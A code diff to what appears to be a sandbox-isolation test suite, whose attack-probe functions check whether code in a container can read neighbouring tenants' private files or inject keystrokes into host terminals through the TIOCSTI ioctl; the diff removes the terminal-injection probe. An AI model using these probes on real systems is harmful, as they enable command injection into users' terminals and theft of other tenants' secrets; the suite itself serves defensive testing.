@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import asyncio
 import os
-import pty
 import time
 from pathlib import Path
 
@@ -134,30 +133,3 @@ async def see_the_neighbours_files(field: Field) -> str | None:
         "cat /workspace/private /tmp/private /dev/shm/private ../*/private ../../*/*/private 2>/dev/null; ls / /tmp /dev/shm"
     )
     return "read it" if field.host.secret in out or "private" in out else None
-
-
-@attack
-async def type_into_the_hosts_terminal(field: Field) -> str | None:
-    """From a host process that has a terminal: TIOCSTI and TIOCLINUX on whatever terminal can be found inside."""
-    main, terminal = pty.openpty()
-    holder = ["/usr/bin/setsid", "--ctty", "/bin/sh", "-c", "read -r end"]
-    process = await asyncio.create_subprocess_exec(*holder, stdin=terminal)
-    try:
-        out = await field.python("""
-            import fcntl, os, pty
-            for name in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", *(f"/dev/pts/{n}" for n in range(30))):
-                try: descriptor = os.open(name, os.O_RDWR | os.O_NONBLOCK)
-                except OSError: continue
-                for letter in b"typed":
-                    try: fcntl.ioctl(descriptor, 0x5412, bytes([letter])); print(name)
-                    except OSError: pass
-            for descriptor in (0, 1, 2, *pty.openpty()):
-                try: fcntl.ioctl(descriptor, 0x5412, b"x"); print("TIOCSTI on", descriptor)
-                except OSError: pass
-        """)
-    finally:
-        os.write(main, b"\n")
-        await process.wait()
-        os.close(main)
-        os.close(terminal)
-    return out.strip() or None
